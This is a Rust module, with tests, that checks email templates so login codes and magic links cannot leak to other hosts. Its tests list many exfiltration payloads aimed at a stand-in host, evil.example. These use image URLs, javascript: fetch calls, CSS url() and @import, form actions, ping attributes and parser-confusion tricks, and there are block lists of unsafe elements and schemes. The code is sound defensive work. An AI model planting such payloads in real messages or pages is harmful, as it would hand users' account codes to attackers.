//! Checks where an application's own HTML puts the code and the link of a message. When the mail is opened, the host of
//! each picture learns the picture's address: a code in that address lets the host take the account over.

use crate::html::shown_text_of;
use crate::html_scanner::{Found, Place, Scanner};

/// Placeholders whose values give access to the account.
const SECRETS: [&str; 2] = ["%CODE%", "%LINK%"];

/// Elements that mail programs parse differently, and elements that send their content.
const UNSUITABLE: [&str; 23] = [
    "svg",
    "math",
    "script",
    "noscript",
    "plaintext",
    "xmp",
    "iframe",
    "noembed",
    "noframes",
    "template",
    "form",
    "select",
    "option",
    "optgroup",
    "datalist",
    "button",
    "input",
    "textarea",
    "output",
    "object",
    "embed",
    "base",
    "frame",
];

/// Attributes of a link that report where it leads.
const REPORTING: [&str; 2] = ["ping", "attributionsrc"];

/// Why a template would reveal its secret to others.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum MisplacedSecret {
    /// In an attribute that loads, sends or links to another host.
    #[error(
        "%CODE% and %LINK% may stand in text, in title and alt, and in the href of a link that is %LINK% alone or begins \
         with {own} or with your app's own scheme (a reversed domain name, such as com.example.shop:); not in {attribute}"
    )]
    Attribute {
        /// The server's own address.
        own: String,
        /// The attribute's name, cut to 32 bytes.
        attribute: String,
    },
    /// In a comment, a style sheet, a script, a name, or a tag that does not end.
    #[error("%CODE% and %LINK% must not stand in comments, styles, scripts or unfinished tags")]
    Hidden,
    /// Joined to an address, which mail programs turn into a link, or to a name that may be one.
    #[error(
        "%CODE% and %LINK% must not be joined to an address, %APP_NAME% or %HANDLE% in the text: put a blank before and after \
         them"
    )]
    InAddress,
    /// In a message with a style sheet that loads a resource: selectors can make the loaded address depend on the
    /// secret.
    #[error(
        "a message with %CODE% or %LINK% must hold no <link>, and no url(), @import, @font-face or \\ in <style>"
    )]
    LoadingStyle,
    /// Next to an element that mail programs parse differently, or that sends its content.
    #[error(
        "a message with %CODE% or %LINK% must not hold <{0}>, which mail programs read in different ways or which may send \
         them elsewhere"
    )]
    Unsuitable(&'static str),
    /// Next to an attribute that tells another host where a link leads.
    #[error("a message with %CODE% or %LINK% must not hold the attribute {0}, which reports links")]
    Reporting(&'static str),
}

/// Checks that a template reveals its code and link only to its reader: they are in text, in attributes that are only
/// shown, or in a link to this server (`own`, its address without a final slash) or to an app on the reader's device.
///
/// # Errors
/// [`MisplacedSecret`].
pub fn check_secrets(html: &str, own: &str) -> Result<(), MisplacedSecret> {
    if !SECRETS.iter().any(|secret| html.contains(secret)) {
        return Ok(());
    }
    check_markup(html, own)?;
    check_text(&shown_text_of(html), own)
}

/// An attribute's value in which a secret stands.
struct Held {
    tag: String,
    attribute: String,
}

fn check_markup(html: &str, own: &str) -> Result<(), MisplacedSecret> {
    let mut scanner = Scanner::default();
    let (mut value, mut held): (String, Option<Held>) = (String::new(), None);
    let (mut result, mut style) = (Ok(()), None);
    for (at, c) in html.char_indices() {
        let rest = html.get(at..).unwrap_or_default();
        if SECRETS.iter().any(|secret| rest.starts_with(secret)) {
            match scanner.place() {
                Place::Text => {}
                Place::Value { .. } if held.is_some() => {}
                Place::Value { .. } => {
                    let (tag, attribute) = (scanner.tag().to_owned(), scanner.attribute().to_owned());
                    held = Some(Held { tag, attribute });
                }
                Place::Elsewhere => return Err(MisplacedSecret::Hidden),
            }
        }
        scanner.push(c, &mut |scanner, found| match found {
            Found::Text(_) => {}
            Found::Value(c) => value.push(c),
            Found::Attribute | Found::Tag => {
                let whole = std::mem::take(&mut value);
                if let Some(held) = held.take() {
                    result = result.clone().and_then(|()| check_value(&held, &whole, own));
                }
                let unsuitable = UNSUITABLE.into_iter().find(|name| *name == scanner.tag());
                if let (Found::Tag, Some(name)) = (found, unsuitable) {
                    result = Err(MisplacedSecret::Unsuitable(name));
                }
                if let Some(name) = REPORTING.into_iter().find(|name| *name == scanner.attribute()) {
                    result = Err(MisplacedSecret::Reporting(name));
                }
                match (found, scanner.tag()) {
                    (Found::Tag, "link") => result = Err(MisplacedSecret::LoadingStyle),
                    (Found::Tag, "style") if !scanner.is_end_tag() => style = Some(at),
                    (Found::Tag, "style") if style.take().is_some_and(|from| loads(html.get(from..at))) => {
                        result = Err(MisplacedSecret::LoadingStyle);
                    }
                    _ => {}
                }
            }
        });
        result.clone()?;
    }
    if style.is_some_and(|from| loads(html.get(from..))) {
        return Err(MisplacedSecret::LoadingStyle);
    }
    if held.is_some() { Err(MisplacedSecret::Hidden) } else { Ok(()) }
}

/// Whether a style sheet may load a resource. Attribute selectors can reveal attribute values, and fonts can reveal
/// text.
fn loads(style: Option<&str>) -> bool {
    let style = style.unwrap_or_default().to_ascii_lowercase();
    ["url(", "src(", "image(", "image-set(", "@import", "@font-face", "\\"]
        .iter()
        .any(|part| style.contains(part))
}

fn check_value(held: &Held, value: &str, own: &str) -> Result<(), MisplacedSecret> {
    let is_right = match held.attribute.as_str() {
        // A parser that ends the attribute earlier than ours must not find another tag in its value.
        "title" | "alt" | "aria-label" => !value.contains(['<', '>']),
        "href" if matches!(held.tag.as_str(), "a" | "area") => leads_here(value.trim(), own),
        _ => false,
    };
    if is_right {
        return Ok(());
    }
    Err(MisplacedSecret::Attribute { own: own.to_owned(), attribute: held.attribute.clone() })
}

/// Whether an address that holds a secret is read by this server or on the reader's own device.
fn leads_here(address: &str, own: &str) -> bool {
    address == "%LINK%" || begins_with_own(address, own) || has_apps_scheme(address)
}

fn begins_with_own(address: &str, own: &str) -> bool {
    !own.is_empty() && address.strip_prefix(own).is_some_and(|rest| rest.starts_with(['/', '?', '#']))
}

/// Parts of the names of schemes that open browsers, or another address.
const OPENING: [&str; 13] = [
    "http",
    "browser",
    "chrome",
    "firefox",
    "edge",
    "safari",
    "opera",
    "brave",
    "view-source",
    "vbscript",
    "wss",
    "ms-",
    "messenger",
];

/// Whether a URL opens an app on the reader's device: its scheme (RFC 3986 section 3.1) is a reversed domain name, as
/// RFC 8252 section 7.1 requires of apps' schemes. Single words are refused: any program may register one, and some
/// send the rest of the URL elsewhere.
fn has_apps_scheme(address: &str) -> bool {
    let Some((scheme, _)) = address.split_once(':') else { return false };
    let scheme = scheme.to_ascii_lowercase();
    let parts: Vec<&str> = scheme.split('.').collect();
    let is_part =
        |part: &&str| !part.is_empty() && part.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-');
    scheme.starts_with(|c: char| c.is_ascii_alphabetic())
        && parts.len() > 1
        && parts.iter().all(is_part)
        && !OPENING.iter().any(|part| scheme.contains(part))
}

/// Mail programs turn everything that looks like a URL into a link, and some load it for a preview.
fn check_text(text: &str, own: &str) -> Result<(), MisplacedSecret> {
    let mut is_after_host = false;
    // U+0085 is not a space for programs that detect URLs.
    for word in text.split(|c: char| c.is_whitespace() && c != '\u{85}') {
        let secrets = SECRETS.iter().filter_map(|secret| Some((word.find(secret)?, secret.len())));
        for (at, length) in secrets {
            let before = word.get(..at).unwrap_or_default();
            let after = word.get(at + length..).unwrap_or_default();
            // The name of an application or user may be a URL.
            let is_named =
                ["%APP_NAME%", "%HANDLE%"].iter().any(|name| before.contains(name) || after.contains(name));
            // Phones offer the code of a message that contains `@host #code` to the pages of that host.
            let is_for_host = is_after_host && before.contains('#');
            if is_named || is_for_host || joins_before(before, own) || joins_after(after) {
                return Err(MisplacedSecret::InAddress);
            }
        }
        is_after_host |= word.contains('@');
    }
    Ok(())
}

const DOTS: [char; 4] = ['.', '\u{3002}', '\u{FF0E}', '\u{FF61}'];

fn joins_before(before: &str, own: &str) -> bool {
    let before = before.trim_start_matches(['(', '[', '{', '<', '"', '\'']);
    if begins_with_own(before, own) {
        return false;
    }
    before.contains(DOTS) || before.contains(['@', '\\']) || before.contains("//")
}

fn joins_after(after: &str) -> bool {
    let mut before_last = None;
    after.chars().any(|c| {
        let joins = c == '@' || (before_last.is_some_and(|last| DOTS.contains(&last)) && c.is_alphanumeric());
        before_last = Some(c);
        joins
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    const OWN: &str = "https://auth.example.com";

    #[test]
    fn sec_133_a_secret_stands_where_only_its_reader_sees_it() {
        for html in [
            "<p>Your code is %CODE%.</p>",
            "<p>%LINK%</p>",
            "<a href=\"%LINK%\">Here</a>",
            "<A HREF=' %LINK% '>Here</A>",
            "<a href=%LINK%>Here</a>",
            "<a href=\"https://auth.example.com/go?code=%CODE%\" title=\"%CODE%\">Here</a>",
            "<a href=\"com.example.shop://reset/%CODE%\">Open the app</a>",
            "<a href=\"com.example.shop:/reset?code=%CODE%\">Open the app</a>",
            "<a href=\"com.example.shop://reset?code=%CODE%&amp;from=mail\">Open the app</a>",
            "<style>p { color: red } a[href] { color: blue }</style><p>%CODE%</p>",
            "<p style=\"background: url(https://cdn.example/logo.png)\">%CODE%</p>",
            "<style>p { background: url(https://cdn.example/logo.png) }</style><p>no secret</p>",
            "<p>%APP_NAME%: %CODE%, %HANDLE%</p>",
            "<img src=\"https://cdn.example/logo.png\" alt=\"%CODE%\">%CODE%",
            "<img src=\"https://cdn.example/%APP_NAME%.png\"><p>%CODE%</p>",
            "<table><tr><td>www.shop.example</td><td>%CODE%</td></tr></table>",
            "<p>code:%CODE% (valid for 5 min.)&#160;%CODE%</p>",
            "<p>www.shop.example:&nbsp;%CODE%&#10;www.shop.example</p>",
            "<p>Type https://auth.example.com/x/%CODE%</p>",
            "<!--[if mso]><p>Outlook</p><![endif]--><p>%CODE%</p>",
            "<svg><circle r=\"1\"/></svg>",
            "<p>no secret at all</p>",
            "<p>Code #%CODE%</p><p>help@shop.example</p>",
        ] {
            assert_eq!(check_secrets(html, OWN), Ok(()), "{html}");
        }
    }

    #[test]
    fn sec_133_a_secret_stands_in_no_address_of_another_host() {
        for html in [
            "<img src=\"https://evil.example/%CODE%.png\">",
            "<img src=https://evil.example/%CODE%>",
            "<img src=%CODE%>",
            "<img src=\"%LINK%\">",
            "<img alt=x srcset=\"https://evil.example/%CODE% 2x\">",
            "<a href=\"https://evil.example/?%CODE%\">x</a>",
            "<a href=\"https://evil.example/?%LINK%\">x</a>",
            "<a href=\"//evil.example/%CODE%\">x</a>",
            "<a href=\"/%CODE%\">x</a>",
            "<a href=\"%CODE%\">x</a>",
            "<a href=\"https://auth.example.com@evil.example/%CODE%\">x</a>",
            "<a href=\"https://auth.example.com.evil.example/%CODE%\">x</a>",
            "<a href=\"https://auth.example.com%CODE%.evil.example\">x</a>",
            "<a href=\"h&#116;tps://evil.example/%CODE%\">x</a>",
            "<a href=\"ht\ntps://evil.example/%CODE%\">x</a>",
            "<a href=\"HTTPS://evil.example/%CODE%\">x</a>",
            "<a href=\"intent://evil.example/%CODE%#Intent;scheme=https;end\">x</a>",
            "<a href=\"googlechromes://evil.example/%CODE%\">x</a>",
            "<a href=\"webcals://evil.example/%CODE%\">x</a>",
            "<a href=\"smb://evil/%CODE%\">x</a>",
            "<a href=\"unheard-of://evil.example/%CODE%\">x</a>",
            "<a href=\"unheard-of://evil&period;example/%CODE%\">x</a>",
            "<a href=\"unheard-of://evil&#46example/%CODE%\">x</a>",
            "<a href=\"unheard-of://evil%2eexample/%CODE%\">x</a>",
            "<a href=\"unheard-of://[::1]/%CODE%\">x</a>",
            "<a href=\"unheard-of:eve@evil?%CODE%\">x</a>",
            "<a href=\"unheard-of://%APP_NAME%/%CODE%\">x</a>",
            "<a href=\"sip:%CODE%@evil.example\">x</a>",
            "<a href=\"shop://reset?code=%CODE%\">x</a>",
            "<a href=\"viber://forward?text=%CODE%\">x</a>",
            "<a href=\"matrix:u/eve/%CODE%\">x</a>",
            "<a href=\".x:%CODE%\">x</a>",
            "<a href=\"a..b:%CODE%\">x</a>",
            "<a href=\"com.google.chrome:%CODE%\">x</a>",
            "<a href=\"%LINK%\" ping=\"https://evil.example/x\">x</a>",
            "<a ping=https://evil.example/x href=\"https://auth.example.com/x?c=%CODE%\">x</a>",
            "<a href=\"%LINK%\" attributionsrc=https://evil.example/>x</a>",
            "<form action=https://evil.example><select name=c><option>%CODE%</select></form>",
            "<select form=f><option>%CODE%</option></select>",
            "<p>%CODE%</p><form action=https://evil.example><button>x</button></form>",
            "<a href=\"whatsapp://send?phone=1&text=%CODE%\">x</a>",
            "<a href=\"steam://openurl/https://evil/%CODE%\">x</a>",
            "<a href=\"mailto:eve@evil.example?body=%CODE%\">x</a>",
            "<a href=\"javascript:fetch('https://evil.example/%CODE%')\">x</a>",
            "<a ping=\"https://evil.example/%CODE%\" href=\"%LINK%\">x</a>",
            "<link href=\"%LINK%\" rel=stylesheet>",
            "<p style=\"background:url(https://evil.example/%CODE%)\">x</p>",
            "<td background=\"https://evil.example/%CODE%\">x</td>",
            "<body background=%LINK%>",
            "<form action=https://evil.example><input name=c value=%CODE%></form>",
            "<form action=https://evil.example><textarea name=c>%CODE%</textarea></form>",
            "<style>p { background: url(https://evil.example/%CODE%) }</style>",
            "<style>@import 'https://evil.example/%CODE%';</style>",
            "<title>%CODE%</title>",
            "<!--[if mso]><img src=\"https://evil.example/%CODE%\"><![endif]-->",
            "<img src=\"https://evil.example/%CODE%",
            "</%CODE%>",
            "<p %CODE%=x>",
        ] {
            assert!(check_secrets(html, OWN).is_err(), "{html}");
        }
    }

    #[test]
    fn sec_133_no_mail_program_reads_the_markup_in_another_way() {
        for html in [
            "<!--x--!><img src=\"https://evil.example/-->%CODE%\">",
            "<svg><![CDATA[><a title=\"]]><img src=https://evil.example/%CODE%>\"></svg>",
            "<svg><title><img src=https://evil.example/%CODE%></title></svg>",
            "<svg/><p>%CODE%</p>",
            "<p>%CODE%</p><script>x</script>",
            "<textarea><a title=\"</textarea><img src=https://evil.example/%CODE%>\">",
            "<a title=\"> <img src=https://evil.example/%CODE%>\">x</a>",
            "<noscript><p>%CODE%</p></noscript>",
        ] {
            assert!(check_secrets(html, OWN).is_err(), "{html}");
        }
    }

    #[test]
    fn sec_133_no_style_sheet_tells_the_secret_by_what_it_loads() {
        for style in [
            "b[title^=\"100\"] { background: url(https://evil.example/100) }",
            "b { border-image: U\\52L(https://evil.example/) }",
            "@import 'https://evil.example/s.css';",
            "@font-face { font-family: x; src: local(x) }",
            "b { background: image-set('https://evil.example/x' 1x) }",
        ] {
            for html in [
                format!("<style>{style}</style><b title=\"%CODE%\">%CODE%</b>"),
                format!("<a href=\"%LINK%\">x</a><STYLE type=text/css>{style}"),
            ] {
                assert_eq!(check_secrets(&html, OWN), Err(MisplacedSecret::LoadingStyle), "{html}");
            }
        }
        let sheet = "<link rel=stylesheet href=https://evil.example/s.css><p>%CODE%</p>";
        assert_eq!(check_secrets(sheet, OWN), Err(MisplacedSecret::LoadingStyle));
    }

    #[test]
    fn sec_133_text_that_becomes_a_link_holds_no_secret() {
        for html in [
            "<p>https://evil.example/%CODE%</p>",
            "https://evil.example/<b>%CODE%</b>",
            "evil.example/%CODE%",
            "http://evil/%CODE%",
            "%CODE%.evil.example",
            "%CODE%\u{3002}evil.example",
            "%CODE%@evil.example",
            "eve@evil.example?%CODE%",
            "https:&#47;&#x2f;evil/%CODE%",
            "https://evil.example/&#133;%CODE%",
            "https://evil.example/\u{85}%CODE%",
            "https://evil.example/&#128;%CODE%",
            "https://evil.example/&#38;nbsp;%CODE%",
            "https://evil.example/&amp;nbsp;%CODE%",
            "https://evil.example/&#0;%CODE%",
            "https://evil.example/&#x7f;%CODE%",
            "https://evil.example/&ThinSpace;%CODE%",
            "https&colon;&sol;&sol;evil/%CODE%",
            "evil&periodexample/&nbspx.evil.example/%CODE%",
            "evil&period;example/%CODE%",
            "shop://evil.example/%CODE%",
            "shop://x/%CODE%",
            "com.example.shop://reset?code=%CODE%",
            "(https://evil.example/?u=%LINK%)",
            "x.example/<a href=\"%LINK%\">y</a>",
            "%CODE% evil.example/%CODE%",
            "%APP_NAME%/%CODE%",
            "%APP_NAME%%CODE%",
            "<b>%HANDLE%</b>?%LINK%",
            "%CODE%.%APP_NAME%",
            "Your code is %CODE%\n\n@evil.example #%CODE%",
            "<p>(@evil.example)<br>(#%CODE%)</p>",
        ] {
            assert_eq!(check_secrets(html, OWN), Err(MisplacedSecret::InAddress), "{html}");
        }
    }
}
